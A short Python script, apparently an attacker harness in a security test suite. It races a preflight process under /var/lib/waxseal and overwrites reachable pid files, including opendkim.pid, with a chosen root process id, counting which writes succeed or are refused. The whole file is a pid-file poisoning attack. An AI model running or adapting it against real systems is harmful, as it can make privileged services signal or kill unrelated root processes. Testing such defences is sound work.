"""Writes the process id of a process of root into every pid file that he can reach.    pid.py PID DIRECTORY..."""
import glob
import os
import sys
import time

from common import count, going, ready, report

victim = sys.argv[1]
ready()
while going():
    found = set()
    for top in sys.argv[2:]:
        found.update(glob.glob(os.path.join(top, '*.pid')))
    for process in os.listdir('/proc'):
        if not process.isdigit():
            continue
        try:
            with open('/proc/%s/cmdline' % process, 'rb') as file:
                words = file.read().split(b'\0')
        except OSError:
            continue
        for word in words:
            if b'/var/lib/waxseal/preflight' in word:
                base = os.path.dirname(os.fsdecode(word[word.find(b'/var/lib'):]))
                for below in ('', 'socket', 'run'):
                    found.update([os.path.join(base, below, 'opendkim.pid'), os.path.join(base, below, 'pid')])
                    found.update(glob.glob(os.path.join(base, below, '*.pid')))
    for path in found:
        try:
            os.unlink(path)
        except OSError:
            pass
        try:
            with open(path, 'w') as file:
                file.write(victim + '\n')
            count('written')
        except OSError:
            count('refused')
    time.sleep(0.01)
report()
